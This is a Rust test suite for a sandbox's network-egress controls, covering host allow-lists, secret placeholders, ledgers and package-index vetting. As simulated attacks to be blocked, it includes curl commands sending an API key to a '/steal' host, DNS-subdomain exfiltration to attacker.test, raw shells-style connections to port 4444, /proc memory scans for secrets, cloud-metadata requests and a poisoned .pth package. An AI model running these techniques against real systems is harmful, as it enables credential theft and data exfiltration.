//! What contained runs reach: real clients inside, hosts on loopback outside, with a server and without.

use std::process::{Command, Stdio};

use crate::support::bulkhead::{DEFAULT_POLICY, with_setting};
use crate::support::contained::{BAD, GOOD, REAL, World};
use crate::support::{Place, Registry, Upload, Wheel, developer, eventually};

fn allowed() -> String {
    format!("[settings]\nhosts = [{GOOD:?}, \"git.allowed.test\"]\n")
}

#[test]
fn an_allowed_host_is_reached_and_another_is_refused_by_a_named_rule() {
    let world = World::new(&allowed());
    let ran = world.run(&format!("curl -sS https://{GOOD}/hello; curl -sS https://{BAD}/secret"));
    ran.says("ECHO GET /hello HTTP/1.1");
    ran.says("egress-default");
    ran.told("enforced: files, network, processes, tripwires, syscalls, landlock, environment, egress");
    ran.told(&format!("1 refused: connect {BAD}:443 (egress-default)"));
    ran.told(&format!("reached {GOOD} "));
    ran.says(&format!("add \\\"{BAD}\\\" to `hosts`"));
    assert!(!world.internet.received().contains("/secret"));
    let rows = world.shown(&ran);
    let row =
        |about: &str| rows.iter().find(|row| row["about"] == about).unwrap_or_else(|| panic!("{about}: {rows:#?}"));
    assert_eq!(row(&format!("{GOOD}:443"))["effect"], "allow");
    assert_eq!(row(&format!("{BAD}:443"))["effect"], "deny");
    assert_eq!(rows.iter().filter(|row| row["about"] == format!("{BAD}:443")).count(), 1, "{rows:#?}");
    assert_eq!(rows.last().expect("an end")["detail"]["list"], format!("contact {GOOD}"));
    // What the run contacted is what the question after a breach finds.
    assert!(world.exposed(&["--host-contacted", GOOD]).contains(&ran.id()));
    assert!(!world.exposed(&["--host-contacted", BAD]).contains(&ran.id()));
    assert!(world.bulkhead(&["ledger", "verify"]).status.success());
}

#[test]
fn every_client_reaches_the_allowed_host_and_is_refused_at_another() {
    let world = World::new(&allowed());
    assert!(world.install("pip", &["pip"]), "cargo xtask clients");
    // Optional: only where pdm could be installed.
    let httpx = world.install("pdm", &["httpx", "httpcore", "h11", "anyio", "idna", "certifi"]);
    let all =
        "aiohttp aiohappyeyeballs aiosignal attr attrs frozenlist idna multidict propcache typing_extensions.py yarl";
    assert!(world.install("aiohttp", &all.split(' ').collect::<Vec<_>>()), "cargo xtask clients");
    let urllib = "import sys, urllib.request as u\ntry: print(u.urlopen(sys.argv[1]).read().decode())\nexcept u.HTTPError as e: print(e.code, e.reason)";
    let requests = "import sys; from pip._vendor import requests as r; a = r.get(sys.argv[1]); print(a.reason, a.text)";
    let httpx_get = "import sys, httpx; a = httpx.get(sys.argv[1]); print(a.reason_phrase, a.text)";
    let aiohttp = "import sys, aiohttp, asyncio\nasync def get():\n  async with aiohttp.request('GET', sys.argv[1]) as a: print(a.reason, await a.text())\nasyncio.run(get())";
    let node = "require('https').get(process.argv[2], a => { console.log(a.statusCode, a.statusMessage); a.pipe(process.stdout) })";
    for (file, text) in [("u.py", urllib), ("r.py", requests), ("x.py", httpx_get), ("a.py", aiohttp), ("n.js", node)] {
        std::fs::write(world.project().join(file), text).expect("written");
    }
    // requests and httpx with nothing but their own bundle, in the project's environment.
    let bare = "env -u REQUESTS_CA_BUNDLE -u CURL_CA_BUNDLE -u SSL_CERT_FILE PYTHONPATH=.venv/lib/python3.11/site-packages python3";
    let mut clients = vec![
        ("curl", "curl -sS --noproxy '*' URL".to_owned(), "ECHO GET /curl", "egress-default"),
        (
            "curl-proxy",
            "https_proxy=http://127.0.0.1:3128 curl -sS URL".to_owned(),
            "ECHO GET /curl-proxy",
            "egress-default",
        ),
        ("wget", "wget -S -O - URL".to_owned(), "ECHO GET /wget", "(egress-default)"),
        ("urllib", "python3 u.py URL".to_owned(), "ECHO GET /urllib", "403 Blocked by Bulkhead"),
        ("requests", format!("{bare} r.py URL"), "ECHO GET /requests", "Blocked by Bulkhead"),
        ("node", "node n.js URL".to_owned(), "ECHO GET /node", "403 Blocked by Bulkhead"),
    ];
    // It takes no bundle of its own: the one that OpenSSL is told of, and no proxy unless told to.
    let aiohttp = "PYTHONPATH=.venv/lib/python3.11/site-packages python3 a.py URL".to_owned();
    clients.push(("aiohttp", aiohttp, "ECHO GET /aiohttp", "Blocked by Bulkhead"));
    let fetch = "fetch(process.argv[2]).then(async a => console.log(a.status, a.statusText, await a.text()))";
    std::fs::write(world.project().join("f.js"), fetch).expect("written");
    clients.push(("fetch", "node f.js URL".to_owned(), "ECHO GET /fetch", "403 Blocked by Bulkhead"));
    if httpx {
        clients.push(("httpx", format!("{bare} x.py URL"), "ECHO GET /httpx", "Blocked by Bulkhead"));
    }
    let line = |(name, command, ..): &(&str, String, &str, &str), host: &str, word: &str| {
        let command = command.replace("URL", &format!("https://{host}/{name}"));
        format!("echo \"[{name} {word}]\"; {command} 2>&1; echo")
    };
    let mut script: Vec<String> =
        clients.iter().flat_map(|client| [line(client, GOOD, "good"), line(client, BAD, "bad")]).collect();
    script.push("echo '[git good]'; git ls-remote https://git.allowed.test/repo.git 2>&1".to_owned());
    script.push(format!("echo '[git bad]'; git ls-remote https://{BAD}/repo.git 2>&1; echo '[end]'"));
    let ran = world.run(&script.join("\n"));
    let part = |name: &str| {
        let part = ran.said.split(&format!("[{name}]\n")).nth(1).and_then(|rest| rest.split("\n[").next());
        part.unwrap_or_else(|| panic!("no part {name}: {}", ran.said)).to_owned()
    };
    for (name, _, good, bad) in &clients {
        let (reached, refused) = (part(&format!("{name} good")), part(&format!("{name} bad")));
        assert!(reached.contains(good), "{name}: {reached}\n{}", ran.told);
        assert!(refused.contains(bad) && !refused.contains("ECHO"), "{name}: {refused}\n{}", ran.told);
    }
    assert!(part("git good").contains("0123456789012345678901234567890123456789\trefs/heads/main"), "{}", ran.said);
    assert!(part("git bad").contains("403"), "{}", ran.said);
    ran.told(&format!("refused: connect {BAD}:443 (egress-default)"));
    assert!(!world.internet.received().contains(BAD), "{}", world.internet.received());
}

/// Where there is a Java: it has a trust store of its own, and no proxy unless it is told of one.
#[test]
fn java_trusts_the_run_with_nothing_said_to_it() {
    let there = Command::new("java").arg("--version").output().is_ok_and(|output| output.status.success());
    if !there {
        return println!("no java: not tried");
    }
    let world = World::new(&allowed());
    world.secret("openai", &["--host", GOOD, "--variable", "OPENAI_API_KEY"]);
    let program = r#"
import java.net.*;
public class Get { public static void main(String[] to) throws Exception { for (String at : to) {
    HttpURLConnection c = (HttpURLConnection) new URL(at).openConnection();
    c.setRequestProperty("Authorization", "Bearer " + System.getenv("OPENAI_API_KEY"));
    int code = c.getResponseCode();
    System.out.println(code + " " + c.getResponseMessage());
    if (code == 200) System.out.println(new String(c.getInputStream().readAllBytes()));
} } }
"#;
    std::fs::write(world.project().join("Get.java"), program).expect("written");
    let ran = world.run(&format!("java Get.java https://{GOOD}/java https://{BAD}/java 2>&1; keytool -list -cacerts -storepass changeit 2>&1 | tail -4"));
    ran.says("ECHO GET /java");
    ran.says("403 Blocked by Bulkhead");
    assert!(world.internet.received().contains(&format!("Bearer {REAL}")), "{}", ran.said);
    assert!(!ran.said.contains("REALREAL") && !ran.said.contains("Picked up"), "{}", ran.said);
    // With the password that it has outside.
    ran.says("trustedCertEntry");
}

#[test]
fn a_secret_is_used_at_its_own_host_and_is_nowhere_inside() {
    let world = World::new("");
    world.secret("openai", &["--host", GOOD, "--variable", "OPENAI_API_KEY"]);
    let search = r#"
import os
what = (b"RE" + b"AL") * 3
found, closed = [], 0
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) == os.getpid(): continue
    for name in ["environ", "cmdline", "mem"]:
        try:
            with open(f"/proc/{pid}/{name}", "rb") as file:
                if name != "mem":
                    found += [file.name] if what in file.read() else []
                    continue
                for line in open(f"/proc/{pid}/maps"):
                    begin, end = (int(x, 16) for x in line.split()[0].split("-"))
                    try:
                        file.seek(begin)
                        found += [line] if what in file.read(end - begin) else []
                    except (OSError, ValueError, OverflowError): pass
        except OSError: closed += 1
print("found", found, "closed", closed > 0)
"#;
    std::fs::write(world.project().join("search.py"), search).expect("written");
    std::fs::write(world.project().join("own.pem"), world.internet.root()).expect("written");
    let header = "-H \"Authorization: Bearer $OPENAI_API_KEY\"";
    let ran = world.run(&format!(
        "echo \"[placeholder $OPENAI_API_KEY]\"
         echo '[own]'; curl -sS https://{GOOD}/v1/chat {header}
         echo '[own by proxy]'; curl -sS -x http://127.0.0.1:3128 https://{GOOD}/v1/chat {header}
         echo '[foreign]'; curl -sS https://{BAD}/steal {header}
         echo '[body]'; curl -sS https://{GOOD}/body -d \"key=$OPENAI_API_KEY\"
         echo '[path]'; curl -sS \"https://{GOOD}/?$OPENAI_API_KEY\"
         echo '[pinned]'; curl -sS --cacert own.pem https://{GOOD}/pinned
         echo '[plain]'; curl -sS http://{GOOD}/plain {header}
         echo '[search]'; env | grep -E '[R]EALREALREAL'; python3 search.py
         grep -rlaE '[R]EALREALREAL' $HOME /tmp /run /dev/shm /etc 2>/dev/null; echo '[end]'"
    ));
    let part = |name: &str| {
        let part = ran.said.split(&format!("[{name}]\n")).nth(1).and_then(|rest| rest.split("\n[").next());
        part.unwrap_or_else(|| panic!("no part {name}: {}", ran.said)).to_owned()
    };
    let placeholder = ran.said.split("[placeholder ").nth(1).and_then(|rest| rest.split(']').next()).expect("one");
    assert!(placeholder.starts_with("sk-proj-") && placeholder.len() == REAL.len() && placeholder != REAL);
    let received = world.internet.received();
    assert_eq!(received.matches(&format!("Bearer {REAL}")).count(), 2, "{received}");
    assert!(!received.contains(placeholder), "a placeholder left: {received}");
    assert!(!ran.said.contains("REALREAL") && !ran.told.contains("REALREAL"), "{}{}", ran.said, ran.told);
    for own in ["own", "own by proxy"] {
        assert!(part(own).contains("ECHO GET /v1/chat"), "{}", part(own));
        // What the host repeats is scrubbed on the way back.
        assert!(part(own).to_lowercase().contains("authorization: bearer"), "{}", part(own));
    }
    for misused in ["foreign", "body", "path"] {
        assert!(part(misused).contains("egress-secret-misuse"), "{misused}: {}", part(misused));
    }
    // Only its own authority will do, and the host is one whose TLS must be opened: nothing goes through, and that is said.
    assert!(!received.contains("/pinned"), "{received}");
    assert!(!part("plain").contains("ECHO"), "{}", part("plain"));
    assert!(part("search").starts_with("found [] closed True"), "{}", part("search"));
    ran.told("environment, egress, broker");
    ran.told("placeholders for: openai (OPENAI_API_KEY)");
    ran.told("used openai");
    let rows = world.shown(&ran);
    assert!(rows.iter().any(|row| row["rule"] == "not-trusted"), "{rows:#?}");
    let misuse = rows.iter().find(|row| row["about"] == format!("{BAD}:443") && row["rule"] == "secret-misuse");
    assert!(
        misuse.is_some_and(|row| row["detail"]["misuse"]
            .as_str()
            .is_some_and(|text| text.contains("header authorization"))),
        "{rows:#?}"
    );
    assert!(rows.iter().any(|row| row["detail"]["secrets"] == "openai" && row["effect"] == "allow"), "{rows:#?}");
    assert!(rows.last().expect("an end")["detail"]["list"].as_str().is_some_and(|list| list.contains("secret openai")));
    assert!(world.exposed(&["--secret", "openai"]).contains(&ran.id()));
    // Nor is it in what was recorded.
    assert!(!format!("{rows:?}").contains("REALREAL"));
}

#[test]
fn names_are_stand_ins_and_addresses_lead_nowhere() {
    let world = World::new(&format!(
        "[settings]\nhosts = [{GOOD:?}, \"localhost\", \"169.254.169.254\", \"*.allowed.test\"]\nprivate = [\"localhost\", \"169.254.169.254\"]\n"
    ));
    let tcp = r#"
import socket
def talk(to, *lines):
    s = socket.create_connection(to, 5)
    try:
        for line in lines: s.sendall(line)
        return s.recv(100)
    except OSError as e: return e
print("dns", socket.gethostbyname("c2VjcmV0.attacker.test"))
for n in range(40): socket.gethostbyname(f"part{n}.attacker.test")
print("raw", talk(("203.0.113.9", 4444), b"DATA\n"))
socket.create_connection(("203.0.113.10", 5555), 5).close()
s = socket.create_connection(("api.allowed.test", 2525), 5)
print("first", s.recv(100)); s.sendall(b"EHLO\n"); print("then", s.recv(100))
try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"DATA", ("203.0.113.9", 9999)); print("udp sent")
except OSError as e: print("udp", e)
"#;
    std::fs::write(world.project().join("tcp.py"), tcp).expect("written");
    let ran = world.run(&format!(
        "python3 tcp.py; curl -sS http://{GOOD}/plain
         echo '[metadata]'; curl -sS http://169.254.169.254/latest/meta-data/
         echo '[tls]'; curl -sS https://169.254.169.254/ https://nowhere.allowed.test/
         echo '[loopback]'; curl -sS -x http://127.0.0.1:3128 --noproxy '' http://localhost/; echo '[end]'"
    ));
    ran.says("dns 198.18.");
    ran.says("raw b''");
    ran.says("first b'220 ready");
    ran.says("then b'250 EHLO");
    ran.says("ECHO GET /plain");
    // A host that is allowed and is not there says so, also where its TLS is not opened otherwise.
    ran.says("nowhere.allowed.test:443: the name does not resolve");
    // Allowed by the policy, and closed all the same.
    ran.says("169.254.169.254 is at 169.254.169.254, which is a cloud's metadata service");
    ran.says("localhost is at 127.0.0.1, which is loopback");
    for refused in ["connect 203.0.113.9:4444 (egress-default)", "connect 203.0.113.10:5555 (egress-default)"] {
        assert!(ran.told.contains(refused) || ran.told.contains("more"), "{}", ran.told);
    }
    let rows = world.shown(&ran);
    let refused = |about: &str, rule: &str| rows.iter().any(|row| row["about"] == about && row["rule"] == rule);
    assert!(refused("203.0.113.9:4444", "default"), "{rows:#?}");
    assert!(rows.iter().any(|row| row["about"] == "203.0.113.10:5555" && row["effect"] == "deny"), "{rows:#?}");
    assert!(
        refused("169.254.169.254:80", "upstream-address") && refused("localhost:80", "upstream-address"),
        "{rows:#?}"
    );
    // Names that were asked for and nothing else are counted; the names themselves may be what was to be carried out.
    let end = rows.last().expect("an end");
    assert_eq!(end["detail"]["names-only"], "41", "{end}");
    assert!(end["detail"]["names-below"].as_str().is_some_and(|below| below.starts_with("attacker.test 41")), "{end}");
    assert!(!format!("{rows:?}").contains("c2VjcmV0"));
    assert!(rows.iter().any(|row| row["about"] == "udp 203.0.113.9:9999" && row["effect"] == "deny"), "{rows:#?}");
}

#[test]
fn beside_a_server_its_ledger_has_the_entries() {
    let registry = Registry::start();
    let bulkhead = Place::before(&registry).policy(&allowed()).start();
    let world = World::beside(&bulkhead);
    let ran = world.run(&format!("curl -sS https://{GOOD}/hello; curl -sS https://{BAD}/secret"));
    ran.says("ECHO GET /hello");
    ran.says("egress-default");
    let id = ran.id();
    let entries = bulkhead.entries();
    let mine: Vec<_> =
        entries.iter().filter(|entry| entry["run"] == id.as_str() && entry["gate"] == "egress").collect();
    let hosts: Vec<_> =
        mine.iter().map(|entry| (entry["resource"]["host"].as_str(), entry["effect"].as_str())).collect();
    let (good, bad) = (format!("{GOOD}:443"), format!("{BAD}:443"));
    assert_eq!(hosts, [(Some(good.as_str()), Some("allow")), (Some(bad.as_str()), Some("deny"))], "{mine:#?}");
}

#[test]
fn without_a_server_runs_share_the_ledger_and_outlive_each_other() {
    let world = World::new(&allowed());
    let wait = |file: &str| format!("while [ ! -e {file} ]; do sleep 0.05; done");
    let first = format!("curl -sS https://{GOOD}/first; touch ready; {}", wait("second"));
    let second = format!(
        "{}; curl -sS https://{GOOD}/second; touch second; {}; curl -sS https://{GOOD}/alone",
        wait("ready"),
        wait("gone")
    );
    let mut runs = [first, second].map(|script| {
        let mut command = world.command(&["run", "--", "/bin/sh", "-c", &script]);
        command.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().expect("starts")
    });
    // The first holds the ledger, and ends first.
    assert!(runs[0].wait().expect("ends").success());
    std::fs::write(world.project().join("gone"), "").expect("written");
    let [first, second] = runs.map(|run| run.wait_with_output().expect("ends"));
    let said = String::from_utf8_lossy(&second.stdout).into_owned();
    assert!(
        said.contains("ECHO GET /second") && said.contains("ECHO GET /alone"),
        "{said}\n{}\n{}",
        String::from_utf8_lossy(&second.stderr),
        String::from_utf8_lossy(&first.stderr)
    );
    assert!(world.bulkhead(&["ledger", "verify"]).status.success());
}

#[test]
fn a_server_that_starts_takes_over_from_a_run() {
    let registry = Registry::start();
    let place = Place::before(&registry).policy(&allowed());
    let world = World::in_place(&place);
    let wait = "while [ ! -e served ]; do sleep 0.05; done";
    let script = format!("curl -sS https://{GOOD}/one; touch ready; {wait}; curl -sS https://{GOOD}/two; exit 7");
    let mut running = world.command(&["run", "--", "/bin/sh", "-c", &script]);
    let running = running.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().expect("starts");
    eventually(|| world.project().join("ready").exists().then_some(()));
    let bulkhead = place.start();
    std::fs::write(world.project().join("served"), "").expect("written");
    let output = running.wait_with_output().expect("ends");
    let (said, told) = (String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    assert_eq!(output.status.code(), Some(7), "{said}\n{told}");
    assert!(said.contains("ECHO GET /one") && said.contains("ECHO GET /two"), "{said}\n{told}");
    // Beginning and end are in one ledger, although one process wrote the first and another the last.
    let entries = bulkhead.entries();
    let runs: Vec<_> = entries.iter().filter(|entry| entry["action"] == "run").collect();
    assert_eq!(runs.len(), 2, "{runs:#?}");
    assert_eq!(runs[1]["detail"]["ended"], "code 7");
    // A server makes way for nobody.
    let refused = bulkhead.place().refuses_to_start();
    assert!(refused.all().contains("another bulkhead uses"), "{refused}");
}

#[test]
fn a_flood_of_refusals_is_counted_and_not_written() {
    let world = World::new(&allowed());
    let flood = "import socket\nfor n in range(600):\n  socket.create_connection((f'203.0.{n // 200}.{n % 200 + 1}', 4444)).close()\n";
    std::fs::write(world.project().join("flood.py"), flood).expect("written");
    let ran = world.run("python3 flood.py");
    ran.told("500 refused");
    ran.told("100 more only counted");
    assert_eq!(world.shown(&ran).iter().filter(|row| row["effect"] == "deny").count(), 500);
}

/// The shipped policy with hosts, an opened one, and a rule that sees its requests.
fn readers_only() -> String {
    let policy = with_setting(DEFAULT_POLICY, "hosts", &format!("[{GOOD:?}]"));
    let policy = with_setting(&policy, "open", &format!("[{GOOD:?}]"));
    let rule = format!(
        "\n[[rule]]\nid = \"readers-only\"\ngate = \"egress\"\neffect = \"deny\"\n\
         when = 'net.host == \"{GOOD}\" && net.method != null && (net.method != \"GET\" || net.path.startsWith(\"/admin\"))'\n\
         reason = \"{{net.method}} of {{net.path}} is not for runs\"\nhelp = \"ask for something else\"\n"
    );
    policy + &rule
}

#[test]
fn a_rule_sees_requests_and_a_changed_policy_holds_for_what_runs_already() {
    let world = World::new(&readers_only());
    let until_refused = format!("until curl -sS https://{GOOD}/again | grep egress-default; do sleep 0.1; done");
    let script = format!(
        "curl -sS https://{GOOD}/get; echo; curl -sS https://{GOOD}/post -d x; echo; curl -sS https://{GOOD}/admin/x; echo
         touch changed-when-this-is-here; timeout 30 sh -c '{until_refused}'"
    );
    let mut running = world.command(&["run", "--", "/bin/sh", "-c", &script]);
    let running = running.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().expect("starts");
    eventually(|| world.project().join("changed-when-this-is-here").exists().then_some(()));
    std::fs::write(world.data.join("policy.toml"), DEFAULT_POLICY).expect("written");
    let reloaded = world.bulkhead(&["policy", "reload"]);
    assert!(reloaded.status.success(), "{}", String::from_utf8_lossy(&reloaded.stderr));
    let output = running.wait_with_output().expect("ends");
    let (said, told) = (String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    assert!(output.status.success(), "{said}\n{told}");
    assert!(said.contains("ECHO GET /get"), "{said}\n{told}");
    assert!(!said.contains("ECHO POST") && !said.contains("ECHO GET /admin"), "{said}");
    assert_eq!(said.matches("\"code\":\"egress-readers-only\"").count(), 2, "{said}");
    assert!(told.contains(&format!("request {GOOD}:443 (egress-readers-only)")), "{told}");
}

#[test]
fn what_installs_packages_reaches_its_index_and_no_other() {
    let world = World::new(&allowed());
    assert!(world.install("pip", &["pip"]), "cargo xtask clients");
    // Into the project: the clients may lie below a folder that the run's user has no way into.
    let uv = developer::installed().join("uv/bin/uv");
    std::fs::copy(&uv, world.project().join("uv")).expect("uv: cargo xtask clients");
    let pip = "PYTHONPATH=.venv/lib/python3.11/site-packages python3 -m pip -vvv download --no-deps --retries 0 --index-url https://HOST/simple/ pip-asks";
    let uv = "./uv pip install --python /usr/bin/python3 --target out --default-index https://HOST/simple/ uv-asks";
    let npm = "npm view npm-asks --registry https://HOST/ --fetch-retries 0";
    let script = [pip, uv, npm].map(|command| {
        let at = |host: &str| format!("echo '[{host}]'; {} 2>&1", command.replace("HOST", host));
        format!("{}\n{}", at(GOOD), at(BAD))
    });
    let output = world.bulkhead(&["run", "--", "/bin/sh", "-c", &script.join("\n")]);
    let (said, told) = (String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    let received = world.internet.received();
    for path in ["/simple/pip-asks/", "/simple/uv-asks/", "/npm-asks"] {
        let asked: Vec<&str> = received.lines().filter(|line| line.starts_with(&format!("GET {path}"))).collect();
        assert!(!asked.is_empty(), "{path}: {received}\n{said}\n{told}");
    }
    let refused: Vec<&str> = said.split(&format!("[{BAD}]\n")).skip(1).collect();
    assert_eq!(refused.len(), 3, "{said}");
    for answer in refused {
        let answer = answer.split(&format!("[{GOOD}]")).next().unwrap_or_default();
        assert!(answer.contains("403"), "{answer}\n{told}");
    }
    assert!(!received.contains(BAD), "{received}");
}

#[test]
fn more_connections_than_descriptors_wait_their_turn() {
    let world = World::new(&allowed());
    let many = format!(
        "import socket, concurrent.futures as f\n\
         at = socket.gethostbyname('{GOOD}')\ndef get(n):\n  s = socket.create_connection((at, 80), 60)\n  s.settimeout(60)\n  \
         s.sendall(b'GET /%d HTTP/1.1\\r\\nHost: {GOOD}\\r\\nConnection: close\\r\\n\\r\\n' % n)\n  \
         return b'ECHO' in b''.join(iter(lambda: s.recv(9999), b''))\n\
         with f.ThreadPoolExecutor(150) as pool: print('answered', sum(pool.map(get, range(400))))\n"
    );
    std::fs::write(world.project().join("many.py"), many).expect("written");
    let mut command = Command::new("/bin/sh");
    let run = world.command(&["run", "--", "python3", "many.py"]);
    command.args(["-c", "ulimit -n 200; exec \"$0\" \"$@\""]).arg(run.get_program()).args(run.get_args());
    command.env_clear().envs(run.get_envs().filter_map(|(name, value)| Some((name, value?))));
    let output = command.current_dir(world.project()).output().expect("starts");
    let said = String::from_utf8_lossy(&output.stdout);
    assert!(said.contains("answered 400"), "{said}\n{}", String::from_utf8_lossy(&output.stderr));
}

#[test]
fn a_killed_supervisor_takes_its_run_along_and_leaves_the_ledger_whole() {
    let world = World::new(&allowed());
    let script = format!("curl -sS https://{GOOD}/before; touch ready; while true; do sleep 0.1; touch alive; done");
    let mut running = world.command(&["run", "--", "/bin/sh", "-c", &script]);
    let mut running = running.stdout(Stdio::null()).stderr(Stdio::null()).spawn().expect("starts");
    eventually(|| world.project().join("ready").exists().then_some(()));
    running.kill().expect("killed");
    running.wait().expect("ends");
    // What nobody touches any more stays away.
    eventually(|| {
        drop(std::fs::remove_file(world.project().join("alive")));
        let next = world.run(&format!("curl -sS https://{GOOD}/after"));
        next.says("ECHO GET /after");
        (!world.project().join("alive").exists()).then_some(())
    });
    assert!(world.bulkhead(&["ledger", "verify"]).status.success());
}

#[test]
fn a_callers_proxy_is_not_the_runs() {
    let world = World::new(&allowed());
    let script = format!("echo $https_proxy $HTTP_PROXY; curl -sS https://{GOOD}/hello; curl -sS http://{GOOD}/plain");
    let mut command = world.command(&["run", "--", "/bin/sh", "-c", &script]);
    command.env("https_proxy", "http://proxy.corp.test:8080").env("HTTP_PROXY", "http://proxy.corp.test:8080");
    let output = command.output().expect("starts");
    let said = String::from_utf8_lossy(&output.stdout);
    assert!(said.starts_with("http://127.0.0.1:3128 http://127.0.0.1:3128\n"), "{said}");
    assert!(said.contains("ECHO GET /hello") && said.contains("ECHO GET /plain"), "{said}");
}

#[test]
fn a_run_installs_through_the_intake_gate_and_gets_no_poisoned_release() {
    let registry = Registry::start();
    registry.publish(Upload::from(Wheel::new("demo", "1.0")).days_old(90));
    let poisoned = Wheel::new("poisoned", "1.0").file("poisoned_init.pth", "import os; os.system('true')\n");
    registry.publish(Upload::from(poisoned).days_old(90));
    // The server is known to runs, and to itself, by a name.
    let place = Place::before(&registry).server("url = \"http://index.bulkhead.test/\"");
    let bulkhead = place.policy("[settings]\nhosts = [\"index.bulkhead.test\"]\n").start();
    let world = World::beside(&bulkhead);
    let stands = format!("[egress]\naddresses = [\"index.bulkhead.test:80={}\"]\n", bulkhead.address());
    std::fs::write(world.folder.path().join("bulkhead.toml"), stands).expect("written");
    assert!(world.install("pip", &["pip"]), "cargo xtask clients");
    let pip = "PYTHONPATH=.venv/lib/python3.11/site-packages python3 -m pip download --no-deps --retries 0 \
               --trusted-host index.bulkhead.test --index-url http://index.bulkhead.test/pypi/simple/";
    let ran = world.run(&format!("{pip} demo 2>&1; {pip} poisoned 2>&1; ls *.whl"));
    ran.says("demo-1.0-py3-none-any.whl");
    ran.says("(intake-executable-pth)");
    assert!(!world.project().join("poisoned-1.0-py3-none-any.whl").exists(), "{}", ran.said);
    let entries = bulkhead.entries();
    let refused = entries.iter().find(|entry| entry["effect"] == "deny" && entry["gate"] == "intake");
    assert!(refused.is_some_and(|entry| entry.to_string().contains("poisoned")), "{entries:#?}");
}
